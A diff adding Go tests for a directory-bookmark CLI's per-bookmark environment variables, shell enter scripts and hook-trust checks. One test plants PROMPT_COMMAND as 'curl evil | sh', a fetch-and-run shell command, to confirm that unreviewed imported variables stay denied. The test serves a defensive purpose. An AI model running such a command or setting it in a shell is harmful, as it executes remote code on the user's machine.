@@ -0,0 +1,127 @@
+package cmd
+
+import (
+	"os/exec"
+	"strings"
+	"testing"
+
+	"github.com/rethil/fast-nav/internal/storage"
+)
+
+func TestEnvBookmarkFor(t *testing.T) {
+	bookmarks := map[string]*storage.Bookmark{
+		"infra":  {Path: "/src/infra", Env: map[string]string{"AWS_PROFILE": "prod-ro"}},
+		"deep":   {Path: "/src/infra/deep", Env: map[string]string{"FOO": "1"}},
+		"plain":  {Path: "/src/infra/deep/plain"},
+		"infra2": {Path: "/src/infra2", Env: map[string]string{"FOO": "2"}},
+		"box":    {Path: "ssh://box/src", Env: map[string]string{"FOO": "3"}},
+	}
+
+	tests := map[string]string{
+		"/src/infra":              "infra",
+		"/src/infra/lib":          "infra",
+		"/src/infra/deep/plain/x": "deep",
+		"/src/infra2/":            "infra2",
+		"/src/infra-old":          "",
+		"/src":                    "",
+	}
+	for dir, want := range tests {
+		if got, _ := envBookmarkFor(bookmarks, dir); got != want {
+			t.Errorf("envBookmarkFor(%s) = %q, want %q", dir, got, want)
+		}
+	}
+}
+
+func TestEnterScriptRestores(t *testing.T) {
+	infra, err := enterScript("bash", map[string]string{"AWS_PROFILE": "prod-ro", "QUOTED": `it's $HOME`}, "infra")
+	if err != nil {
+		t.Fatalf("enterScript failed: %v", err)
+	}
+	web, _ := enterScript("bash", map[string]string{"AWS_PROFILE": "dev"}, "web")
+	leave, _ := enterScript("bash", nil, "")
+
+	show := `echo "${AWS_PROFILE-unset} ${QUOTED-unset} $__fn_env_active"` + "\n"
+	script := "export AWS_PROFILE=\"it's old\n\"\n" + infra + show + web + show + leave + show
+	want := "prod-ro it's $HOME infra\ndev unset web\nit's old\n unset \n"
+	// 'init bash' is also installed for sh, dash and ash
+	for _, shell := range []string{"bash", "dash"} {
+		if _, err := exec.LookPath(shell); err != nil {
+			continue
+		}
+		out, err := exec.Command(shell, "-c", script).CombinedOutput()
+		if err != nil {
+			t.Fatalf("Script failed in %s: %v\n%s", shell, err, out)
+		}
+		if string(out) != want {
+			t.Errorf("Expected %s to print\n%s\ngot\n%s", shell, want, out)
+		}
+	}
+
+	if _, err := enterScript("tcsh", nil, ""); err == nil {
+		t.Error("Expected an error for an unsupported shell")
+	}
+}
+
+func TestEnvSet(t *testing.T) {
+	tempDir := t.TempDir()
+	t.Setenv("HOME", tempDir)
+
+	store, _ := storage.NewStore()
+	store.SaveBookmark("infra", tempDir)
+
+	if err := envSetCmd.RunE(envSetCmd, []string{"infra", "AWS_PROFILE=prod-ro", "EMPTY="}); err != nil {
+		t.Fatalf("env set failed: %v", err)
+	}
+	if err := envUnsetCmd.RunE(envUnsetCmd, []string{"infra", "EMPTY"}); err != nil {
+		t.Fatalf("env unset failed: %v", err)
+	}
+
+	store, _ = storage.NewStore()
+	bookmark, _ := store.GetBookmark("infra")
+	if len(bookmark.Env) != 1 || bookmark.Env["AWS_PROFILE"] != "prod-ro" {
+		t.Errorf("Expected only AWS_PROFILE to be set, got %v", bookmark.Env)
+	}
+	trust, _ := storage.LoadTrust()
+	if !trust.Trusted("infra", bookmark) {
+		t.Error("Expected variables set by the user to be allowed")
+	}
+
+	for _, arg := range []string{"NOEQUALS", "1BAD=x", "BAD-NAME=x"} {
+		if err := envSetCmd.RunE(envSetCmd, []string{"infra", arg}); err == nil {
+			t.Errorf("Expected an error for %q", arg)
+		}
+	}
+}
+
+func TestUpdateKeepsUnreviewedPartsDenied(t *testing.T) {
+	tempDir := t.TempDir()
+	t.Setenv("HOME", tempDir)
+
+	// Variables arriving from elsewhere, as through an import
+	store, _ := storage.NewStore()
+	store.PutBookmark("api", &storage.Bookmark{Path: tempDir, Env: map[string]string{"PROMPT_COMMAND": "curl evil | sh"}})
+
+	if err := updateHooks("api", []string{"nvm use"}); err != nil {
+		t.Fatalf("Failed to set hooks: %v", err)
+	}
+
+	store, _ = storage.NewStore()
+	bookmark, _ := store.GetBookmark("api")
+	trust, _ := storage.LoadTrust()
+	if trust.Trusted("api", bookmark) {
+		t.Error("Expected setting hooks not to allow variables that were never reviewed")
+	}
+
+	if err := updateEnv("api", func(env map[string]string) { delete(env, "PROMPT_COMMAND") }); err != nil {
+		t.Fatalf("Failed to update variables: %v", err)
+	}
+	if err := hookAllowCmd.RunE(hookAllowCmd, []string{"api"}); err != nil {
+		t.Fatalf("hook allow failed: %v", err)
+	}
+	store, _ = storage.NewStore()
+	bookmark, _ = store.GetBookmark("api")
+	trust, _ = storage.LoadTrust()
+	if !trust.Trusted("api", bookmark) || strings.Join(bookmark.Hooks, ";") != "nvm use" {
+		t.Errorf("Expected the reviewed hooks to be allowed, got %+v", bookmark)
+	}
+}